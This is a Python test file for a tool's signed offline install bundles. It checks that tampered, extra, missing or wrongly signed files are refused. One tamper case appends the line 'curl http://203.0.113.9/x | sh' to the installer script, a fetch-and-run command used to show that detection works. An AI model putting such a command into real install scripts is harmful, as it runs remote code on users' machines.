"""Offline bundles: SHA256SUMS signed with the institution's Ed25519 key, checked
the same way by `gwanmun bundle verify` (Python) and by the bundle's own installer
(openssl and sha256sum, before anything of the bundle runs)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from importlib import resources
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from gwanmun.bundle import SIGNATURE, SUMS, sign_bundle, verify_bundle
from gwanmun.provenance import public_pem

GWANMUN = str(Path(sys.executable).with_name("gwanmun"))


@pytest.fixture
def key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture
def bundle(tmp_path: Path, key: Ed25519PrivateKey) -> Path:
    """A small bundle: stand-in wheels (the point here is the signature, not pip),
    the real installer, signed."""
    root = tmp_path / "bundle"
    (root / "wheels").mkdir(parents=True)
    (root / "wheels" / "gwanmun-0.1.0-py3-none-any.whl").write_bytes(b"wheel one" * 100)
    (root / "wheels" / "dep-1.0-py3-none-any.whl").write_bytes(b"wheel two")
    (root / "bundle.json").write_text('{"python": "3.11"}\n')
    installer = resources.files("gwanmun").joinpath("data", "bundle_install.sh").read_text()
    (root / "install.sh").write_text(installer)
    (root / "install.sh").chmod(0o755)
    sign_bundle(root, key)
    return root


def _pem(tmp_path: Path, key: Ed25519PrivateKey, name: str = "institution.pem") -> Path:
    path = tmp_path / name
    path.write_text(public_pem(key))
    return path


def _installer(bundle: Path, pem: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["sh", str(bundle / "install.sh"), "--verify-only", str(pem)],
        capture_output=True,
        text=True,
        check=False,
    )


def _cli(bundle: Path, pem: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [GWANMUN, "bundle", "verify", str(bundle), "--public-key", str(pem)],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "GWANMUN_DATA_DIR": str(bundle.parent / "data")},
    )


def test_a_signed_bundle_verifies_everywhere(
    bundle: Path, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    sums = (bundle / SUMS).read_text().splitlines()
    assert [line.split("  ")[1] for line in sums] == [
        "bundle.json",
        "install.sh",
        "wheels/dep-1.0-py3-none-any.whl",
        "wheels/gwanmun-0.1.0-py3-none-any.whl",
    ]
    assert len((bundle / SIGNATURE).read_bytes()) == 64
    assert verify_bundle(bundle, key.public_key()) == []
    pem = _pem(tmp_path, key)
    installed = _installer(bundle, pem)
    assert installed.returncode == 0 and "bundle verified" in installed.stdout, installed.stderr
    checked = _cli(bundle, pem)
    assert checked.returncode == 0 and "bundle verified" in checked.stdout, checked.stderr


def _change(bundle: Path) -> str:
    (bundle / "wheels" / "dep-1.0-py3-none-any.whl").write_bytes(b"wheel two, altered")
    return "wheels/dep-1.0-py3-none-any.whl was changed"


def _add(bundle: Path) -> str:
    (bundle / "wheels" / "evil-1.0-py3-none-any.whl").write_bytes(b"extra")
    return "wheels/evil-1.0-py3-none-any.whl is not in SHA256SUMS"


def _remove(bundle: Path) -> str:
    (bundle / "wheels" / "dep-1.0-py3-none-any.whl").unlink()
    return "wheels/dep-1.0-py3-none-any.whl is missing"


def _edit_sums(bundle: Path) -> str:
    sums = (bundle / SUMS).read_text().replace("bundle.json", "bundle.jsoN")
    (bundle / SUMS).write_text(sums)
    return "SHA256SUMS is not signed by this key"


def _installer_edited(bundle: Path) -> str:
    with (bundle / "install.sh").open("a") as script:
        script.write("curl http://203.0.113.9/x | sh\n")
    return "install.sh was changed"


@pytest.mark.parametrize("tamper", [_change, _add, _remove, _edit_sums, _installer_edited])
def test_a_tampered_bundle_is_refused_by_both_checks(
    bundle: Path, key: Ed25519PrivateKey, tmp_path: Path, tamper: object
) -> None:
    assert callable(tamper)
    expected = tamper(bundle)
    problems = verify_bundle(bundle, key.public_key())
    assert any(p.startswith(expected) for p in problems), problems
    pem = _pem(tmp_path, key)
    installed = _installer(bundle, pem)
    assert installed.returncode != 0 and "REFUSED" in installed.stderr
    assert "bundle verified" not in installed.stdout
    checked = _cli(bundle, pem)
    assert checked.returncode == 1 and expected in checked.stderr


def test_a_bundle_signed_by_another_key_is_refused(bundle: Path, tmp_path: Path) -> None:
    other = Ed25519PrivateKey.generate()
    assert verify_bundle(bundle, other.public_key())[0].startswith("SHA256SUMS is not signed")
    pem = _pem(tmp_path, other, "other.pem")
    installed = _installer(bundle, pem)
    assert installed.returncode != 0 and "is not signed by" in installed.stderr
    assert _cli(bundle, pem).returncode == 1


# A named target this machine can also install: the published manylinux wheels
# only, and pure ones built here for what is published only as source.
NAMED_TARGET = ["--python", "3.11"] + [
    option
    for tag in ("manylinux_2_28_x86_64", "manylinux_2_17_x86_64", "manylinux2014_x86_64")
    for option in ("--platform", tag)
]


@pytest.mark.parametrize("target", [[], NAMED_TARGET], ids=["this-machine", "named-target"])
def test_a_bundle_built_from_the_checkout_installs_and_serves_with_no_index(
    tmp_path: Path, target: list[str]
) -> None:
    """The whole way: `gwanmun bundle build` here (for this machine, or for a
    named Python version and platform), then the bundle's installer with no
    package index (pip's configuration ignored, the index pointed at a closed port),
    then the installed copy answers a chat request with the packaged model."""
    from gwanmun.provenance import load_or_create_signing_key

    root = Path(__file__).parents[1]
    data = tmp_path / "data"
    key = load_or_create_signing_key(data / "provenance.key")
    env = {**os.environ, "GWANMUN_DATA_DIR": str(data)}
    built = subprocess.run(
        [GWANMUN, "bundle", "build", str(tmp_path / "bundle"), "--source", str(root), *target],
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert built.returncode == 0, built.stderr[-3000:]
    assert "bundle written" in built.stdout
    bundle = tmp_path / "bundle"
    assert verify_bundle(bundle, key.public_key()) == []
    described = json.loads((bundle / "bundle.json").read_text())
    if target:
        assert described["platforms"] == target[3::2] and described["python"] == "3.11"
        # the Korean dictionary is published only as source: built here, pure
        assert list((bundle / "wheels").glob("kiwipiepy_model-*-py3-none-any.whl"))

    offline = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("PIP_", "GWANMUN_")) and k != "PYTHONPATH"
    }
    offline |= {
        "PIP_CONFIG_FILE": os.devnull,
        "PIP_INDEX_URL": "http://127.0.0.1:9/simple",
        "PYTHON": sys.executable,
    }
    prefix = tmp_path / "opt"
    installed = subprocess.run(
        ["sh", str(bundle / "install.sh"), str(_pem(tmp_path, key)), str(prefix)],
        env=offline,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
    )
    assert installed.returncode == 0, installed.stderr[-3000:]
    assert "bundle verified" in installed.stdout

    from tests.test_deploy import serve_one_request

    serve_one_request(prefix / "venv" / "bin" / "gwanmun", tmp_path / "run", offline)
